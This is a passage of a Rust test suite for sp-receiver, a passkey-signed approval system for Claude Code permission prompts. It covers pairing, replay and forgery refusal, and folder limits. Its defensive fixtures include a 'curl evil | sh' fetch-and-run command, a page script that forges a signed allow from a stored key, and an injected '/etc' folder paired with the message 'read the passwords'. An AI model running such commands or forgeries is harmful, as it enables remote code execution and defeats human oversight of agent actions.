//! Signed control through the real `sp-receiver` (DECISIONS 22, the receiver's side), in
//! headless Chromium with a CDP virtual authenticator (ctap2, internal, resident keys, user
//! verified):
//!
//! 1. `sp pair` runs against sp-receiver while the page's pairing view shows the same six
//!    check digits and approves with a passkey the page creates; `sp control keys --json` then
//!    lists that key. The view is photographed to `docs/receiver-pairing.png`.
//! 2. A Claude Code PermissionRequest hook waits; the page shows the tool and its input; Allow
//!    is a touch of the passkey over the exact command (a confirm, DECISIONS 36) and the hook
//!    prints Claude Code's allow JSON; the receiver records the ack `delivered`.
//! 3. The same signed command replayed, and an edited copy, are put into the receiver's queue
//!    through this test's own path (a row written into sp-receiver's database file: the
//!    binary has no test door); the machine acks them `refused` with `replay` and `bad_assertion`,
//!    and the waiting hook never prints allow (it gets the page's signed Deny instead).
//! 4. A page script that signs an allow with the stored day key gets `confirm_needed`, and
//!    nothing runs.
//!
//! And, in process over HTTP (`mod http`): the pairing routes, the machine token, the
//! per-machine queue, who may ack what, `off`, and the unsigned mode without an rp id.
//!
//! Needs chromium, Node.js and playwright-core: `scripts/test-deps.sh` installs them. Without
//! them the test fails (it never passes silently).
mod common;

use common::browser::{missing_browser_deps, Browser};
use common::env::*;
use common::receiver::TOKEN;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::time::Duration;

const ALLOW: &str = r#"{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}"#;
const SESSION: &str = "5b0e8c1d-2f3a-4b5c-8d6e-7f8091a2b3c4";

/// `sp-receiver --listen 127.0.0.1:0` with its files in `dir` (no `--public-url`: rp id
/// `localhost`), and this test's ways into its database.
struct SpReceiver {
    running: common::receiver::SpReceiver,
    url: String,
    port: u16,
    db: PathBuf,
}

impl SpReceiver {
    fn start(dir: &Path) -> SpReceiver {
        let running = common::receiver::SpReceiver::start(dir, &[]);
        let url = running.url.clone();
        let port = url.rsplit(':').next().unwrap().parse().unwrap();
        SpReceiver {
            running,
            url,
            port,
            db: dir.join("receiver.db"),
        }
    }

    fn db(&self) -> rusqlite::Connection {
        common::receiver::open_db(&self.db)
    }

    /// The id and body of the first queued message `WHERE {filter}`.
    fn message(&self, filter: &str) -> (String, String) {
        self.db()
            .query_row(
                &format!("SELECT id, body FROM messages WHERE {filter}"),
                [],
                |r| Ok((r.get(0)?, r.get(1)?)),
            )
            .unwrap()
    }

    /// The first ack the receiver recorded for message `id` (waiting up to 30 s for it).
    fn ack(&self, id: &str) -> Value {
        common::receiver::first_ack(&self.db, id)
    }

    /// This test's own way into the queue: a row in sp-receiver's database, as the receiver
    /// writes one for a signed envelope. Returns the new id.
    fn inject(&self, machine: &str, session: &str, envelope: &Value) -> String {
        common::queue_row::inject_answer(&self.db, machine, session, envelope)
    }
}

/// The prompt `att` is still open on the machine (`why` says what would have settled it).
#[track_caller]
fn assert_still_open(env: &Env, att: &str, why: &str) {
    assert_eq!(
        env.query::<String>(&format!(
            "SELECT state FROM attention WHERE attention_id = '{att}'"
        )),
        vec!["open".to_string()],
        "{why}"
    );
}

/// The person denies prompt `att` of session `key` from the page (signed): the waiting
/// `hook` prints deny, never allow.
fn deny_on_page(b: &mut Browser, hook: std::process::Child, key: &str, att: &str) {
    let attention = format!("#inbox [data-session=\"{key}\"] [data-attention=\"{att}\"]");
    b.wait(&attention);
    b.click(&format!("{attention} button.deny"));
    let out = finish(hook, Duration::from_secs(60));
    let printed = stdout(&out);
    assert!(!printed.contains("\"allow\""), "{printed}");
    assert!(printed.contains("\"deny\""), "{printed}");
}

fn permission_request(command: &str) -> Value {
    json!({
        "session_id": SESSION, "hook_event_name": "PermissionRequest", "cwd": "/tmp",
        "transcript_path": "/tmp/t.jsonl", "permission_mode": "default",
        "tool_name": "Bash", "tool_input": {"command": command, "description": "write a file"}
    })
}

/// A script any page of the receiver's origin could run: it signs an allow for `att` with the
/// day key the page keeps in IndexedDB and posts it as the page posts its commands; returns
/// `{status, body}` of that post.
fn hostile_allow(machine: &str, session: &str, att: &str) -> String {
    format!(
        r#"(async () => {{
  const b64u = (buf) => btoa(String.fromCharCode(...new Uint8Array(buf))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  const db = await new Promise((ok, no) => {{ const r = indexedDB.open('sessionpipe', 1); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error); }});
  const day = await new Promise((ok, no) => {{ const q = db.transaction('kv').objectStore('kv').get('day.localhost'); q.onsuccess = () => ok(q.result); q.onerror = () => no(q.error); }});
  if (!day) throw new Error('no stored day key');
  const cmd = JSON.stringify({{ v: 1, t: 'sessionpipe.control', machine: {machine:?}, kind: 'permission.answer', session: {session:?}, for: {att:?}, decision: 'allow', nonce: b64u(crypto.getRandomValues(new Uint8Array(16))), iat: Date.now() }});
  const sig = await crypto.subtle.sign({{ name: 'ECDSA', hash: 'SHA-256' }}, day.priv, new TextEncoder().encode(cmd));
  const st = await (await fetch('/page/api/state', {{ credentials: 'same-origin', cache: 'no-store' }})).json();
  const r = await fetch('/page/api/signed', {{ method: 'POST', credentials: 'same-origin', headers: {{ 'content-type': 'application/json', 'x-sessionpipe-csrf': st.csrf }}, body: JSON.stringify({{ cmd, csig: b64u(sig), grant: day.grant }}) }});
  return {{ status: r.status, body: await r.json() }};
}})()"#
    )
}

/// The one open attention on the machine other than `not`.
fn open_attention(env: &Env, not: Option<&str>) -> String {
    let mut id = None;
    assert!(
        until(Duration::from_secs(20), || {
            id = env
                .db_path()
                .exists()
                .then(|| {
                    env.query::<String>("SELECT attention_id FROM attention WHERE state='open'")
                })
                .and_then(|v| v.into_iter().find(|a| Some(a.as_str()) != not));
            id.is_some()
        }),
        "the hook opened no attention"
    );
    id.unwrap()
}

#[test]
fn pair_and_allow_from_the_page_with_a_touch_and_forgeries_and_a_hostile_day_key_allow_are_refused()
{
    if let Some(why) = missing_browser_deps() {
        panic!("the browser test cannot run: {why}");
    }
    let dir = tempfile::tempdir().unwrap();
    let receiver = SpReceiver::start(&dir.path().join("receiver"));
    let page = format!("http://localhost:{}", receiver.port);

    // The well-known declares signing for rp id localhost.
    let wk = common::http::get(&format!("{}/.well-known/sessionpipe", receiver.url), &[]).json();
    assert_eq!(
        wk["control"]["signing"],
        json!({"rp_id": "localhost", "algs": [-7, -257]})
    );

    let mut env = Env::new();
    env.write_config(json!({
        "sinks": [{"name": "phone", "url": receiver.url, "tier": 1, "control": "signed", "token": TOKEN}],
        "control": {"permission_wait_s": 90}
    }));

    // 1. `sp pair` prints the link and the digits, and waits.
    let mut cmd = env.cmd("sp");
    cmd.args(["pair", "phone", "--timeout", "120"]);
    let common::pairing::SpPair {
        child: pair,
        link,
        digits,
        printed,
    } = common::page::start_pair(cmd, &page);
    assert_eq!(digits.len(), 6);

    let mut b = Browser::launch();
    b.call(json!({"op": "webauthn"}));
    // Opened logged out, the link asks for the login token and then comes back to itself.
    let first = common::page::open_and_log_in(&mut b, &link);
    assert_eq!(first["status"], 401);
    b.wait("#conn[data-state=\"live\"]");
    b.wait("#pair-check[data-check]");
    assert_eq!(b.call(json!({"op": "url"}))["url"], json!(link));
    let shown = b.call(json!({"op": "attr", "selector": "#pair-check", "name": "data-check"}))
        ["value"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(shown, digits, "the page shows the terminal's digits");
    let png = common::browser::docs_screenshot(&mut b, "receiver-pairing.png");
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");

    common::pairing::approve(&mut b, pair, &printed);
    assert!(printed.lock().unwrap().contains("Enrolled passkey"));
    let creds = b.call(json!({"op": "credentials"}))["credentials"].clone();
    assert_eq!(creds.as_array().unwrap().len(), 1, "{creds}");

    let keys = env
        .cmd("sp")
        .args(["control", "keys", "--json"])
        .output()
        .unwrap();
    assert!(keys.status.success());
    let keys: Value = serde_json::from_slice(&keys.stdout).unwrap();
    let keys = keys.as_array().unwrap();
    assert_eq!(keys.len(), 1, "{keys:?}");
    assert_eq!(keys[0]["sink"], "phone");
    assert_eq!(keys[0]["alg"], -7);
    // The receiver kept only a hash of the machine token.
    let machine: String = receiver
        .db()
        .query_row("SELECT id FROM machines", [], |r| r.get(0))
        .unwrap();
    let stored: String = receiver
        .db()
        .query_row("SELECT token_hash FROM machines", [], |r| r.get(0))
        .unwrap();
    assert_eq!(stored.len(), 64);

    // 2. A PermissionRequest waits; the page shows it and its input; Allow, signed.
    env.start_sync();
    let hook = env.spawn_hook(
        "sp-permission",
        &permission_request("echo signed > out.txt"),
    );
    let att = open_attention(&env, None);
    let key = format!("claude-code:{SESSION}");
    let attention = format!("#inbox [data-session=\"{key}\"] [data-attention=\"{att}\"]");
    b.call(json!({"op": "goto", "url": format!("{page}/")}));
    b.wait("#signed");
    b.wait(&attention);
    let seen = b.text(&attention);
    assert!(seen.contains("Bash"), "{seen}");
    assert!(seen.contains("echo signed > out.txt"), "{seen}");
    b.click(&format!("{attention} button.allow"));
    let out = finish(hook, Duration::from_secs(60));
    assert!(out.status.success());
    assert_eq!(stdout(&out).trim_end(), ALLOW, "log: {}", env.log());
    let (id, body) = receiver.message("machine IS NOT NULL ORDER BY n LIMIT 1");
    let ack = receiver.ack(&id);
    assert_eq!(ack["outcome"], "delivered", "{ack}");
    let envelope: Value = serde_json::from_str(&body).unwrap();
    let cmd = envelope["cmd"].as_str().unwrap().to_owned();
    assert!(
        cmd.starts_with(r#"{"v":1,"t":"sessionpipe.control","machine":""#),
        "{cmd}"
    );
    // An allow is a touch over the exact command (DECISIONS 36), never the day key.
    assert!(envelope["confirm"]["sig"].is_string(), "{envelope}");
    assert!(envelope.get("csig").is_none() && envelope.get("grant").is_none());
    b.wait(&format!(
        "article[data-session=\"{key}\"] li.msg[data-kind=\"permission.answer\"][data-status=\"delivered\"]"
    ));

    // 3. Another prompt waits. The allow replayed, and an edited copy aimed at it, are refused.
    let hook = env.spawn_hook(
        "sp-permission",
        &permission_request("echo second > out2.txt"),
    );
    let att2 = open_attention(&env, Some(&att));
    let replay = receiver.inject(&machine, &key, &envelope);
    let mut edited = envelope.clone();
    edited["cmd"] = json!(cmd.replace(
        &format!("\"for\":\"{att}\""),
        &format!("\"for\":\"{att2}\"")
    ));
    assert_ne!(edited["cmd"], envelope["cmd"]);
    let edited = receiver.inject(&machine, &key, &edited);
    for (id, code) in [(replay, "replay"), (edited, "bad_assertion")] {
        let ack = receiver.ack(&id);
        assert_eq!(ack["outcome"], "refused", "{ack}");
        assert_eq!(ack["code"], code, "{ack}");
    }
    assert_still_open(&env, &att2, "a forgery settled the prompt");
    // The person denies it from the page (signed too): the hook prints deny, never allow.
    deny_on_page(&mut b, hook, &key, &att2);

    // 4. A hostile page (DECISIONS 36): a script the receiver serves signs an allow with the
    // day key the page stores (the deny above made it). The machine refuses it
    // `confirm_needed`, the prompt stays open and nothing runs; the person then denies it.
    let hook = env.spawn_hook("sp-permission", &permission_request("curl evil | sh"));
    let att3 = open_attention(&env, Some(&att2));
    let hostile = b.call(json!({"op": "eval", "script": hostile_allow(&machine, &key, &att3)}));
    let carried = &hostile["value"];
    assert_eq!(carried["status"], 200, "{hostile}");
    let id = carried["body"]["id"]
        .as_str()
        .expect("an envelope id")
        .to_owned();
    let ack = receiver.ack(&id);
    assert_eq!(
        (ack["outcome"].as_str(), ack["code"].as_str()),
        (Some("refused"), Some("confirm_needed")),
        "{ack}"
    );
    assert_still_open(&env, &att3, "the day key alone settled the prompt");
    deny_on_page(&mut b, hook, &key, &att3);

    // A message typed on the page, signed, reaches the session at its next Stop.
    let card = format!("article[data-session=\"{key}\"]");
    let text = "signed: please also update the changelog";
    b.send_text(&card, text, "queue");
    let prompt = format!("{card} li.msg[data-kind=\"prompt\"]");
    let id = b.prompt_id_taken(&prompt);
    assert!(
        until(Duration::from_secs(20), || env.query::<i64>(&format!(
            "SELECT count(*) FROM messages WHERE id = '{id}'"
        )) == vec![1]),
        "sp-sync stored {id}"
    );
    let stop = json!({"session_id": SESSION, "hook_event_name": "Stop", "cwd": "/tmp",
                      "transcript_path": "/tmp/t.jsonl", "stop_hook_active": false});
    let out = env.hook_json("sp-stop", &stop);
    let v: Value = serde_json::from_str(stdout(&out).trim())
        .unwrap_or_else(|e| panic!("{e}: {:?} log: {}", stdout(&out), env.log()));
    assert_eq!(v["decision"], "block");
    assert!(v["reason"].as_str().unwrap().contains(text), "{v}");
    // The Stop that ends the turn it started sends its final ack (DECISIONS 38).
    let mut end = stop.clone();
    end["stop_hook_active"] = json!(true);
    end["last_assistant_message"] = json!("Changelog updated.");
    assert!(env.hook_json("sp-stop", &end).stdout.is_empty());
    b.wait(&format!("{prompt}[data-status=\"delivered\"] div.reply"));
    assert_eq!(b.text(&format!("{prompt} div.reply")), "Changelog updated.");
    assert!(receiver.running.log().contains("listening on"));
}

/// Pairs `env`'s machine with `receiver` through the page's pairing view (a passkey the page
/// creates), leaving the browser logged in; returns the machine's id.
fn pair_in_browser(env: &Env, receiver: &SpReceiver, b: &mut Browser) -> String {
    let mut cmd = env.cmd("sp");
    cmd.args(["pair", "phone", "--timeout", "120"]);
    let common::pairing::SpPair {
        child,
        link,
        printed,
        ..
    } = common::pairing::start(cmd);
    b.call(json!({"op": "webauthn"}));
    common::page::open_and_log_in(b, &link);
    b.wait("#pair-check[data-check]");
    common::pairing::approve(b, child, &printed);
    receiver
        .db()
        .query_row("SELECT id FROM machines", [], |r| r.get(0))
        .unwrap()
}

/// DECISIONS 39, the page's side: a paired machine whose hello says what it can start gets a
/// **New session** form (Agent, Folder, Message, Files, Start: found by their accessible
/// names); Start is a touch over the exact start command; the new session shows at once as
/// working, and the machine's answer is said in words. A folder outside `control.folders`
/// (put in the form by a script, as a stale or hostile page could) is refused `folder`, and
/// the page says so. The agent here is a stand-in (`SP_CLAUDE=/bin/false`): the real Claude
/// Code start is tests/real_agents.rs's.
#[test]
fn a_new_session_form_signs_a_start_with_a_touch_shows_it_working_and_says_a_refusal_in_words() {
    if let Some(why) = missing_browser_deps() {
        panic!("the browser test cannot run: {why}");
    }
    let dir = tempfile::tempdir().unwrap();
    let receiver = SpReceiver::start(&dir.path().join("receiver"));
    let allowed = dir.path().join("allowed");
    std::fs::create_dir(&allowed).unwrap();
    let allowed = allowed.to_str().unwrap().to_owned();
    let mut env = Env::new();
    env.write_config(json!({
        "sinks": [{"name": "phone", "url": receiver.url, "tier": 1, "control": "signed", "token": TOKEN}],
        "control": {"folders": [allowed]}
    }));
    let mut b = Browser::launch();
    let machine = pair_in_browser(&env, &receiver, &mut b);
    env.start_sync_with(&[("SP_CLAUDE", "/bin/false")]);
    let page = format!("http://localhost:{}/", receiver.port);
    b.call(json!({"op": "goto", "url": page}));
    let form = format!("#starts .start-machine[data-machine=\"{machine}\"]");
    b.click(&format!("{form} >> role=button[name=\"New session\"]"));
    b.wait(&format!("{form} >> role=combobox[name=\"Agent\"]"));
    b.wait(&format!("{form} >> role=textbox[name=\"Message\"]"));
    b.wait(&format!(
        "{form} label:has-text(\"Files\") input[type=file]"
    ));
    let options = b.call(json!({"op": "eval", "script": format!(
        "[...document.querySelectorAll('{form} .start-folder option')].map((o) => o.value).concat(\
         [...document.querySelectorAll('{form} .start-agent option')].map((o) => o.textContent))"
    )}))["value"]
        .clone();
    assert_eq!(options, json!([allowed, "Claude Code"]));
    b.call(
        json!({"op": "fill", "selector": format!("{form} >> role=textbox[name=\"Message\"]"),
                  "value": "say hello"}),
    );
    b.click(&format!("{form} >> role=button[name=\"Start\"]"));
    // At once: the new session, working (before any ack could be read back).
    let item = format!("{form} li.started-session");
    b.wait(&format!("{item} .state[data-state=\"working\"]"));
    let key = b.attr(&item, "data-session");
    assert!(key.starts_with("claude-code:"), "{key}");
    let (id, body) = receiver.message("kind = 'start'");
    let envelope: Value = serde_json::from_str(&body).unwrap();
    let cmd: Value = serde_json::from_str(envelope["cmd"].as_str().unwrap()).unwrap();
    assert_eq!(
        (&cmd["kind"], &cmd["session"], &cmd["cwd"], &cmd["text"]),
        (
            &json!("start"),
            &json!(key),
            &json!(allowed),
            &json!("say hello")
        ),
        "{cmd}"
    );
    assert!(
        cmd.get("harness").is_none(),
        "Claude Code is the default: {cmd}"
    );
    assert!(
        envelope["confirm"]["sig"].is_string(),
        "a touch: {envelope}"
    );
    // The stand-in ends at once without a session: the run failed, and the page says so.
    let ack = receiver.ack(&id);
    assert_eq!(ack["outcome"], "taken", "{ack}");
    b.wait(&format!(
        "{item}[data-session=\"{key}\"] .state[data-state=\"not started\"]"
    ));
    assert!(b
        .text(&format!("{item} .detail"))
        .starts_with("The run failed."));

    // A folder outside control.folders: refused `folder` by the machine, said in words.
    b.click(&format!("{form} >> role=button[name=\"New session\"]"));
    b.call(json!({"op": "eval", "script": format!(
        "(() => {{ const s = document.querySelector('{form} .start-folder'); const o = document.createElement('option'); \
         o.value = o.textContent = '/etc'; s.append(o); s.value = '/etc'; }})()"
    )}));
    b.call(
        json!({"op": "fill", "selector": format!("{form} >> role=textbox[name=\"Message\"]"),
                  "value": "read the passwords"}),
    );
    b.click(&format!("{form} >> role=button[name=\"Start\"]"));
    let refused = format!("{form} li.started-session .detail[data-code=\"folder\"]");
    b.wait(&refused);
    let said = b.text(&refused);
    assert!(
        said.starts_with("Not started: that folder is not one this machine allows"),
        "{said}"
    );
    assert!(said.contains("/etc"), "{said}");
    assert!(!said.contains("folder:"), "words, not a code: {said}");

    // A start with a file: the page uploads it, the receiver keeps it (in its database) and
    // serves it to this machine only; sp-sync writes it under .sessionpipe/files/ and the
    // model is told its path.
    b.click(&format!("{form} >> role=button[name=\"New session\"]"));
    b.call(json!({"op": "eval", "script": format!(
        "(() => {{ const dt = new DataTransfer(); \
         dt.items.add(new File(['line one\\nline two\\n'], 'notes.txt', {{ type: 'text/plain' }})); \
         document.querySelector('{form} .start-files').files = dt.files; \
         document.querySelector('{form} .start-folder').value = '{allowed}'; }})()"
    )}));
    b.call(
        json!({"op": "fill", "selector": format!("{form} >> role=textbox[name=\"Message\"]"),
                  "value": "read my notes"}),
    );
    b.click(&format!("{form} >> role=button[name=\"Start\"]"));
    let (key, sha): (String, String) = {
        let mut found = None;
        until(Duration::from_secs(30), || {
            found = receiver
                .db()
                .query_row(
                    "SELECT m.session, f.sha256 FROM messages m, start_files f \
                     WHERE m.kind = 'start' AND m.body LIKE '%read my notes%'",
                    [],
                    |r| Ok((r.get(0)?, r.get(1)?)),
                )
                .ok();
            found.is_some()
        });
        found.expect("the start with its file, kept by the receiver")
    };
    let sid = key.strip_prefix("claude-code:").unwrap();
    let written = Path::new(&allowed).join(format!(".sessionpipe/files/{sid}/notes.txt"));
    assert!(
        until(Duration::from_secs(30), || written.exists()),
        "no {}: {}",
        written.display(),
        env.log()
    );
    assert_eq!(std::fs::read(&written).unwrap(), b"line one\nline two\n");
    // The files are written before the run is recorded: wait for its row.
    let run_sql = format!(
        "SELECT argv FROM runs WHERE kind = 'start' AND cwd LIKE '%allowed' AND argv LIKE '%{sid}%'"
    );
    assert!(
        until(Duration::from_secs(30), || !env
            .query::<String>(&run_sql)
            .is_empty()),
        "the start's run recorded: {}",
        env.log()
    );
    let argv = env.query::<String>(&run_sql);
    assert!(
        argv.first()
            .is_some_and(|a| a.contains(&format!(".sessionpipe/files/{sid}/notes.txt"))),
        "{argv:?}"
    );
    // The file is the machine's only: the shared sink token (or no token) gets no byte.
    let url = format!("{}/api/sessionpipe/v1/control/files/{sha}", receiver.url);
    let status = |auth: Option<&str>| {
        let mut rq = ureq::get(&url).config().http_status_as_error(false).build();
        if let Some(a) = auth {
            rq = rq.header("authorization", &format!("Bearer {a}"));
        }
        rq.call().unwrap().status().as_u16()
    };
    assert_eq!(status(None), 401);
    assert_eq!(status(Some(TOKEN)), 401);
}

/// Passkeys cannot live on an IP address: the real sp-receiver sends the browser that opened
/// its page at `127.0.0.1` (or `[::1]`) to `localhost`, same port and path, or to the
/// `--public-url`; everything else (the protocol sp-sync speaks, the page's API, its files)
/// answers where it is asked.
#[test]
fn the_page_at_an_ip_address_sends_the_browser_to_localhost() {
    use common::http::get;
    // What a browser's navigation asks for.
    const HTML: &str = "text/html,application/xhtml+xml,*/*;q=0.8";
    let dir = tempfile::tempdir().unwrap();
    let receiver = SpReceiver::start(&dir.path().join("receiver"));
    let port = receiver.port;
    for (path, host) in [
        ("/", None),
        ("/pair?code=abc", None),
        ("/login", None),
        ("/", Some(format!("[::1]:{port}"))),
    ] {
        let mut headers: Vec<(&str, &str)> = host.iter().map(|h| ("host", h.as_str())).collect();
        headers.push(("accept", HTML));
        let r = get(&format!("{}{path}", receiver.url), &headers);
        assert_eq!(r.status, 307, "GET {path} ({host:?}): {r:?}");
        assert_eq!(
            r.header("location"),
            Some(format!("http://localhost:{port}{path}").as_str()),
            "GET {path} ({host:?})"
        );
    }
    // At localhost the page itself answers (the login form, logged out).
    let page = format!("http://localhost:{port}");
    let r = get(
        &format!("{}/", receiver.url),
        &[("host", &page[7..]), ("accept", HTML)],
    );
    assert_eq!(r.status, 401, "{r:?}");
    // A script that asks for the page at the address (no HTML in `accept`) gets it there.
    let r = get(&format!("{}/", receiver.url), &[]);
    assert_eq!(r.status, 401, "{r:?}");
    // Nothing else moves: the protocol, the page's API and its static files.
    let bearer = format!("Bearer {TOKEN}");
    for (path, headers, status) in [
        ("/.well-known/sessionpipe", vec![], Some(200)),
        ("/healthz", vec![], Some(200)),
        ("/assets/app.js", vec![], Some(200)),
        ("/page/api/state", vec![], Some(401)),
        (
            "/api/sessionpipe/v1/control?wait=0",
            vec![("authorization", bearer.as_str())],
            None,
        ),
    ] {
        let mut headers = headers;
        headers.push(("accept", HTML));
        let r = get(&format!("{}{path}", receiver.url), &headers);
        assert_ne!(r.status, 307, "GET {path}: {r:?}");
        if let Some(status) = status {
            assert_eq!(r.status, status, "GET {path}: {r:?}");
        }
        assert_eq!(r.header("location"), None, "GET {path}");
    }
    // POST /login is not moved either (a form posted there answers there).
    let r = common::http::post(
        &format!("{}/login", receiver.url),
        &[("accept", HTML)],
        "application/x-www-form-urlencoded",
        "token=wrong",
    );
    assert_ne!(r.status, 307, "{r:?}");

    // With --public-url, the page at the IP address goes there.
    let public = "https://pipe.example.org";
    let other =
        common::receiver::SpReceiver::start(&dir.path().join("public"), &["--public-url", public]);
    let r = get(&format!("{}/pair?code=xyz", other.url), &[("accept", HTML)]);
    assert_eq!(r.status, 307, "{r:?}");
    assert_eq!(
        r.header("location"),
        Some("https://pipe.example.org/pair?code=xyz")
    );
}

// ---------------------------------------------------------------------------------------
// The signed-control routes over HTTP, in process (no browser): pairing, the machine token,
// the per-machine queue, acks and off; and the unsigned mode left as it was.
// ---------------------------------------------------------------------------------------

mod http {
    use super::common::schema::assert_valid;
    use super::common::signing::*;
    use serde_json::{json, Value};
    use spreceiver::{Receiver, ReceiverOptions};
    use std::time::Duration;

    const SINK: &str = "test-token";
    const LOGIN: &str = "page-login-token-9876543210abcdef";
    const CONTROL: &str = "/api/sessionpipe/v1/control";
    const SESSION: &str = "claude-code:5b0e8c1d-2f3a-4b5c-8d6e-7f8091a2b3c4";

    /// Validates against a schema of the signed-control spec, read from the reference's
    /// fixtures (never copied) when they are there (required with SP_REQUIRE_PEER_DATA=1).
    fn check_spec(file: &str, v: &Value) {
        if let Some(dir) = super::common::fixtures::peer_dir() {
            let path = dir.join("signed-control/schemas").join(file);
            assert_valid(&path.to_string_lossy(), v);
        }
    }

    fn start(rp_id: Option<&str>) -> Receiver {
        Receiver::start(ReceiverOptions {
            token: SINK.into(),
            login_token: Some(LOGIN.into()),
            rp_id: rp_id.map(str::to_owned),
            wait_max_s: 2,
            ..ReceiverOptions::default()
        })
        .unwrap()
    }

    fn call(method: &str, url: &str, bearer: Option<&str>, body: Option<&Value>) -> (u16, Value) {
        let agent: ureq::Agent = ureq::Agent::config_builder()
            .http_status_as_error(false)
            .timeout_global(Some(Duration::from_secs(20)))
            .build()
            .into();
        let auth = bearer.map(|b| format!("Bearer {b}"));
        let mut r = match (method, body) {
            ("GET", _) => {
                let mut q = agent.get(url);
                if let Some(a) = &auth {
                    q = q.header("authorization", a);
                }
                q.call().unwrap()
            }
            (_, b) => {
                let mut q = agent.post(url).header("content-type", "application/json");
                if let Some(a) = &auth {
                    q = q.header("authorization", a);
                }
                q.send(b.map(Value::to_string).unwrap_or_default()).unwrap()
            }
        };
        let status = r.status().as_u16();
        let text = r.body_mut().read_to_string().unwrap_or_default();
        (status, serde_json::from_str(&text).unwrap_or(Value::Null))
    }

    fn post(url: &str, bearer: &str, body: &Value) -> (u16, Value) {
        call("POST", url, Some(bearer), Some(body))
    }

    fn now_ms() -> i64 {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis() as i64
    }

    /// Day key `seed` of `passkey` for rp id localhost, valid from a second before `now` for
    /// an hour.
    fn day_key(seed: u8, passkey: &Passkey, now: i64) -> DayKey {
        DayKey::new(
            seed,
            passkey,
            now - 1000,
            now + 3_600_000,
            "localhost",
            &Ceremony::get("localhost"),
        )
    }

    /// Pairs through the routes with a test passkey; returns (machine, token).
    fn pair(r: &Receiver, passkey: &Passkey, machine: Option<&str>) -> (String, Option<String>) {
        let u = r.url();
        let mut body = json!({"name": "laptop"});
        if let Some(m) = machine {
            body["machine"] = json!(m);
        }
        let (s, started) = post(&format!("{u}{CONTROL}/pair"), SINK, &body);
        assert_eq!(s, 201, "{started}");
        check_spec("control-pair-started.json", &started);
        let (m, code) = (
            started["machine"].as_str().unwrap().to_owned(),
            started["code"].as_str().unwrap().to_owned(),
        );
        let status_url = format!("{u}{CONTROL}/pair?code={code}");
        assert_eq!(
            call("GET", &status_url, Some(SINK), None).1,
            json!({"status": "pending"})
        );
        let challenge = sha256(format!("sessionpipe.pair:{m}:{code}").as_bytes());
        let proof = passkey.assert(&challenge, &Ceremony::get("localhost"));
        let approve = format!("{u}/page/api/pairing");
        // A proof over anything else is not carried.
        let wrong = passkey.assert(&sha256(b"other"), &Ceremony::get("localhost"));
        let (s, _) = post(
            &approve,
            LOGIN,
            &json!({"code": code, "key": passkey.trusted(), "proof": wrong}),
        );
        assert_eq!(s, 400);
        let (s, v) = post(
            &approve,
            LOGIN,
            &json!({"code": code, "key": passkey.trusted(), "proof": proof}),
        );
        assert_eq!(s, 200, "{v}");
        let (s, _) = post(
            &approve,
            LOGIN,
            &json!({"code": code, "key": passkey.trusted(), "proof": proof}),
        );
        assert_eq!(s, 409, "approved once only");
        let (s, paired) = call("GET", &status_url, Some(SINK), None);
        assert_eq!(s, 200);
        assert_eq!(paired["status"], "paired");
        check_spec("control-paired.json", &paired);
        assert_eq!(paired["key"], passkey.trusted());
        assert_eq!(paired["proof"], proof);
        // The token is in one answer only.
        let again = call("GET", &status_url, Some(SINK), None).1;
        assert_eq!(again["status"], "paired");
        assert!(again.get("token").is_none(), "{again}");
        (m, paired["token"].as_str().map(str::to_owned))
    }

    #[test]
    fn pairing_machine_queue_acks_and_off() {
        let r = start(Some("localhost"));
        let u = r.url();
        assert_eq!(
            r.well_known()["control"]["signing"],
            json!({"rp_id": "localhost", "algs": [-7, -257]})
        );
        check_spec("well-known.json", &r.well_known());
        // The sink token is needed; an unknown code is 404.
        assert_eq!(
            call(
                "POST",
                &format!("{u}{CONTROL}/pair"),
                None,
                Some(&json!({}))
            )
            .0,
            401
        );
        assert_eq!(
            call(
                "GET",
                &format!("{u}{CONTROL}/pair?code=nope"),
                Some(SINK),
                None
            )
            .0,
            404
        );
        let passkey = Passkey::es256(91);
        let (machine, token) = pair(&r, &passkey, None);
        assert!(
            machine.starts_with("m_") && machine.len() == 24,
            "{machine}"
        );
        let token = token.expect("the first pairing hands over the machine token");
        // Another passkey for the same machine: the same id, and no second token.
        let (again, t2) = pair(&r, &Passkey::es256(92), Some(&machine));
        assert_eq!(again, machine);
        assert!(t2.is_none());
        // A machine the receiver does not know gets a new id.
        let (other, t3) = pair(&r, &Passkey::es256(93), Some("m_unknownmachine0000000"));
        assert_ne!(other, "m_unknownmachine0000000");
        let other_token = t3.unwrap();

        // The machine poll wants that machine's token: never the sink token, never another's.
        let poll = format!("{u}{CONTROL}?machine={machine}&wait=0");
        assert_eq!(call("GET", &poll, Some(SINK), None).0, 401);
        assert_eq!(call("GET", &poll, Some(&other_token), None).0, 401);
        assert_eq!(call("GET", &poll, Some(&token), None).0, 204);

        // The page queues a signed command; the envelope carries cmd byte for byte.
        let now = now_ms();
        let day = day_key(7, &passkey, now);
        let cmd = command(
            &machine,
            "permission.answer",
            SESSION,
            &[("for", json!("perm-0001")), ("decision", json!("allow"))],
            &nonce(),
            now,
        );
        let (s, env) = post(&format!("{u}/page/api/signed"), LOGIN, &day.sign(&cmd));
        assert_eq!(s, 200, "{env}");
        assert_eq!(env["cmd"], json!(cmd));
        assert_eq!(env["csig"], json!(day.csig(&cmd)));
        assert_eq!(env["grant"], day.grant);
        let keys: Vec<&str> = env
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(keys, ["id", "cmd", "csig", "grant", "at", "expires_at"]);
        check_spec("control.json", &env);
        // A command for a machine not paired here is not queued.
        let stray = command(
            "m_notpairedhere00000000",
            "cancel",
            SESSION,
            &[],
            &nonce(),
            now,
        );
        let (s, _) = post(&format!("{u}/page/api/signed"), LOGIN, &day.sign(&stray));
        assert_eq!(s, 400);

        // The early check: a command the machine would refuse is refused here, with its code.
        let stranger = day_key(8, &Passkey::es256(99), now);
        let mut edited = day.sign(&cmd);
        edited["cmd"] = json!(cmd.replace("\"allow\"", "\"deny\""));
        let old_cmd = command(&machine, "cancel", SESSION, &[], &nonce(), now - 3_600_000);
        for (signed, code) in [
            (stranger.sign(&cmd), "untrusted_key"),
            (edited, "bad_csig"),
